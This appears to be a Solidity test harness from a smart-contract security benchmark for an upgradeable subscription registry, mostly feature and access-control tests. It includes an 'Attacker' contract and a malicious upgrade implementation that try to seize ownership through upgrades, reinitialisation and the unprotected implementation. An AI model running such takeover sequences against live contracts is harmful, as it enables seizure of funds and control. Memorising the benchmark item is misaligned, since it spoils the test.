// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./SubscriptionRegistry.sol";
import "./context/RegistryFactory.sol";
import {ISubscriptionRegistry} from "./context/ISubscriptionRegistry.sol";
import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import {ERC1967Proxy} from "@openzeppelin/contracts@4.9.6/proxy/ERC1967/ERC1967Proxy.sol";

// assay-canary-50eea9cd-01ff-4b3e-b767-320316f80df5

interface Vm {
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1e24);
    }
}

/// An implementation that makes whoever asks the owner.
contract OtherRegistry is UUPSUpgradeable, TwoStepOwner {
    function grab(address to) external {
        _setOwner(to);
    }

    function _authorizeUpgrade(address) internal override {}
}

contract Attacker {
    SubscriptionRegistry internal registry;
    SubscriptionRegistry internal implementation;
    OtherRegistry internal other;

    constructor(SubscriptionRegistry registry_, SubscriptionRegistry implementation_) {
        (registry, implementation) = (registry_, implementation_);
        other = new OtherRegistry();
    }

    function _try(address to, bytes memory data) internal returns (bool ok) {
        (ok, ) = to.call(data);
    }

    function run() external {
        bytes memory grab = abi.encodeCall(other.grab, (address(this)));
        bytes memory start = abi.encodeCall(registry.initialize, (address(this), address(0), address(this), ""));
        // not by the usual door
        _try(address(registry), abi.encodeCall(registry.takeOwnership, ()));
        _try(address(registry), abi.encodeCall(registry.offerOwnership, (address(this))));
        _try(address(registry), abi.encodeCall(registry.upgradeTo, (address(other))));
        _try(address(registry), abi.encodeCall(registry.upgradeToAndCall, (address(other), grab)));
        _try(address(registry), grab);
        _try(address(registry), "");
        _try(address(registry), hex"01");
        // the second version, then the first one, then the second one again
        _try(address(registry), abi.encodeCall(registry.initializeV2, (0)));
        _try(address(registry), abi.encodeCall(registry.initialize, (address(0), address(0), address(0), "")));
        _try(address(registry), start);
        _try(address(registry), abi.encodeCall(registry.initializeV2, (0)));
        // the implementation itself: initialise it, move it away from under the registries
        _try(address(implementation), start);
        _try(address(implementation), abi.encodeCall(registry.takeOwnership, ()));
        _try(address(implementation), abi.encodeCall(registry.initializeV2, (0)));
        _try(address(implementation), abi.encodeCall(registry.upgradeToAndCall, (address(other), grab)));
        // a proxy of the proxy
        try new ERC1967Proxy(address(registry), start) returns (ERC1967Proxy mine) {
            _try(address(mine), abi.encodeCall(registry.upgradeToAndCall, (address(other), grab)));
        } catch {}
        _try(address(registry), abi.encodeCall(registry.withdrawRevenue, (1)));
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant TREASURY = address(0x7EA);
    address private constant IDA = address(0x1DA);
    address private constant JON = address(0x909);

    Coin private coin;
    SubscriptionRegistry private implementation;
    RegistryFactory private factory;
    SubscriptionRegistry private registry;
    Attacker private mallory;

    function setUp() public {
        vm.warp(1_766_000_000);
        coin = new Coin();
        implementation = new SubscriptionRegistry();
        factory = new RegistryFactory(address(implementation));
        registry = _create("Journal");
        mallory = new Attacker(registry, implementation);
        vm.prank(IDA);
        registry.addPlan(10 ether, 30 days);
        coin.transfer(JON, 100 ether);
        vm.prank(JON);
        coin.approve(address(registry), 100 ether);
        vm.prank(JON);
        registry.subscribe(0, JON, 1, 10 ether);
    }

    function _create(string memory name) private returns (SubscriptionRegistry) {
        vm.prank(IDA);
        return SubscriptionRegistry(factory.create(address(coin), TREASURY, name));
    }

    function test_Regular() public {
        require(registry.owner() == IDA && factory.isRegistry(address(registry)), "created");
        require(keccak256(bytes(registry.name())) == keccak256("Journal") && registry.revenue() == 10 ether, "state");
        require(registry.paidUntil(0, JON) == block.timestamp + 30 days && registry.isActive(0, JON), "paid");
        require(registry.remaining(0, JON) == 30 days && registry.remaining(0, IDA) == 0, "remaining");

        // concessions
        vm.prank(IDA);
        registry.initializeV2(2_500);
        require(registry.version() == 2 && registry.concessionBps() == 2_500, "version 2");
        vm.prank(IDA);
        registry.setConcession(JON, true);
        require(registry.quote(0, JON, 2) == 15 ether && registry.quote(0, IDA, 2) == 20 ether, "quotes");
        address[] memory both = new address[](2);
        (both[0], both[1]) = (JON, IDA);
        vm.prank(JON);
        require(registry.subscribeMany(0, both, 2, 35 ether) == 35 ether, "many");
        uint256[] memory until = registry.paidUntilOf(0, both);
        require(until[0] == block.timestamp + 90 days && until[1] == block.timestamp + 60 days, "prolonged");
        vm.prank(IDA);
        registry.setConcessionBps(0);
        require(registry.quote(0, JON, 1) == 10 ether, "no concessions");
        vm.prank(IDA);
        registry.grantDays(0, IDA, 3);
        require(registry.remaining(0, IDA) == 63 days, "granted");
        vm.warp(block.timestamp + 100 days);
        require(!registry.isActive(0, JON), "over");
        vm.prank(JON);
        registry.subscribe(0, JON, 1, 10 ether);
        require(registry.remaining(0, JON) == 30 days, "again");

        // plans and money
        vm.prank(IDA);
        registry.changePlan(0, 12 ether, false);
        require(!registry.planAt(0).open && registry.planCount() == 1, "closed");
        vm.prank(IDA);
        registry.setTreasury(address(0x7EB));
        vm.prank(IDA);
        registry.withdrawRevenue(55 ether);
        require(coin.balanceOf(address(0x7EB)) == 55 ether && registry.revenue() == 0, "withdrawn");
        Coin other = new Coin();
        other.transfer(address(registry), 5);
        vm.prank(IDA);
        registry.recoverToken(other);
        require(other.balanceOf(address(0x7EB)) == 5, "recovered");
        vm.prank(IDA);
        registry.setName("Review");
        vm.prank(IDA);
        registry.pause();
        require(registry.paused(), "paused");
        vm.prank(IDA);
        registry.unpause();

        // a new owner, and new implementations
        vm.prank(IDA);
        registry.offerOwnership(JON);
        require(registry.pendingOwner() == JON, "offered");
        vm.prank(JON);
        registry.takeOwnership();
        require(registry.owner() == JON && registry.pendingOwner() == address(0), "taken");
        address copy = address(new SubscriptionRegistry());
        vm.prank(JON);
        registry.upgradeTo(copy);
        require(registry.owner() == JON && registry.version() == 2, "the same state");
        OtherRegistry next = new OtherRegistry();
        vm.prank(JON);
        registry.upgradeToAndCall(address(next), abi.encodeCall(next.grab, (IDA)));
        require(registry.owner() == IDA, "another implementation");
        require(_create("Wanderer").owner() == IDA && factory.count() == 2, "another registry");
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesSubscribers() public {
        bytes memory why = abi.encodeWithSelector(TwoStepOwner.NotOwner.selector, JON);
        refuses(JON, why);
        registry.initializeV2(1);
        refuses(JON, why);
        registry.addPlan(1, 1 days);
        refuses(JON, why);
        registry.changePlan(0, 1, true);
        refuses(JON, why);
        registry.setName("");
        refuses(JON, why);
        registry.setConcession(JON, true);
        refuses(JON, why);
        registry.setConcessionBps(1);
        refuses(JON, why);
        registry.setTreasury(JON);
        refuses(JON, why);
        registry.grantDays(0, JON, 1);
        refuses(JON, why);
        registry.withdrawRevenue(1);
        refuses(JON, why);
        registry.recoverToken(IERC20(address(this)));
        refuses(JON, why);
        registry.pause();
        refuses(JON, why);
        registry.offerOwnership(JON);
        address next = address(new SubscriptionRegistry());
        refuses(JON, why);
        registry.upgradeTo(next);
        refuses(JON, why);
        registry.upgradeToAndCall(next, "");
        refuses(JON, abi.encodeWithSelector(TwoStepOwner.NotPendingOwner.selector, JON));
        registry.takeOwnership();
        vm.prank(IDA);
        registry.pause();
        refuses(JON, why);
        registry.unpause();
        refuses(JON, "Pausable: paused");
        registry.subscribe(0, JON, 1, 10 ether);
        refuses(JON, "Pausable: paused");
        registry.subscribeMany(0, new address[](0), 1, 10 ether);
    }

    /// A registry has an owner and a treasury, and moves to what can move on.
    function test_RefusesSetUps() public {
        vm.expectRevert();
        factory.create(address(coin), address(0), "");
        try new ERC1967Proxy(
            address(implementation),
            abi.encodeCall(implementation.initialize, (address(0), address(coin), TREASURY, ""))
        ) {
            revert("a registry without an owner");
        } catch (bytes memory why) {
            require(bytes4(why) == ISubscriptionRegistry.NoAccount.selector, "owner");
        }
        vm.expectRevert("Function must be called through delegatecall");
        implementation.upgradeTo(address(implementation));
        refuses(IDA, "ERC1967Upgrade: new implementation is not UUPS");
        registry.upgradeTo(address(coin));
    }

    function test_RefusesASecondTime() public {
        vm.prank(IDA);
        registry.initializeV2(1);
        refuses(IDA, "Initializable: contract is already initialized");
        registry.initializeV2(1);
    }

    function test_RefusesSettings() public {
        refuses(IDA, abi.encodeWithSelector(ISubscriptionRegistry.PeriodOutOfRange.selector, 1 days - 1));
        registry.addPlan(1, 1 days - 1);
        refuses(IDA, abi.encodeWithSelector(ISubscriptionRegistry.PeriodOutOfRange.selector, 366 days + 1));
        registry.addPlan(1, 366 days + 1);
        refuses(IDA, abi.encodeWithSelector(ISubscriptionRegistry.UnknownPlan.selector, 1));
        registry.changePlan(1, 1, true);
        refuses(IDA, abi.encodeWithSelector(ISubscriptionRegistry.RateTooHigh.selector, 5_001, 5_000));
        registry.setConcessionBps(5_001);
        refuses(IDA, abi.encodeWithSelector(ISubscriptionRegistry.NoAccount.selector, address(0)));
        registry.setTreasury(address(0));
        refuses(IDA, abi.encodeWithSelector(ISubscriptionRegistry.NoAccount.selector, address(registry)));
        registry.setTreasury(address(registry));
        refuses(IDA, abi.encodeWithSelector(ISubscriptionRegistry.UnknownPlan.selector, 1));
        registry.grantDays(1, JON, 1);
        refuses(IDA, abi.encodeWithSelector(ISubscriptionRegistry.PeriodsOutOfRange.selector, 37));
        registry.grantDays(0, JON, 37);
        refuses(IDA, abi.encodeWithSelector(ISubscriptionRegistry.AboveRevenue.selector, 10 ether + 1, 10 ether));
        registry.withdrawRevenue(10 ether + 1);
        refuses(IDA, abi.encodeWithSelector(ISubscriptionRegistry.NotTheRevenueToken.selector, address(coin)));
        registry.recoverToken(coin);
    }

    function test_RefusesSubscriptions() public {
        refuses(JON, abi.encodeWithSelector(ISubscriptionRegistry.NoAccount.selector, address(0)));
        registry.subscribe(0, address(0), 1, 10 ether);
        refuses(JON, abi.encodeWithSelector(ISubscriptionRegistry.PeriodsOutOfRange.selector, 0));
        registry.subscribe(0, JON, 0, 10 ether);
        refuses(JON, abi.encodeWithSelector(ISubscriptionRegistry.PeriodsOutOfRange.selector, 37));
        registry.subscribe(0, JON, 37, 1000 ether);
        refuses(JON, abi.encodeWithSelector(ISubscriptionRegistry.UnknownPlan.selector, 1));
        registry.subscribe(1, JON, 1, 10 ether);
        refuses(JON, abi.encodeWithSelector(ISubscriptionRegistry.PriceAboveMaximum.selector, 20 ether, 19 ether));
        registry.subscribe(0, JON, 2, 19 ether);
        vm.prank(IDA);
        registry.changePlan(0, 10 ether, false);
        refuses(JON, abi.encodeWithSelector(ISubscriptionRegistry.PlanClosed.selector, 0));
        registry.subscribe(0, JON, 1, 10 ether);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(registry.owner() == address(mallory), "Ida owns it");
    }

    function target() public view returns (address) {
        return address(registry);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
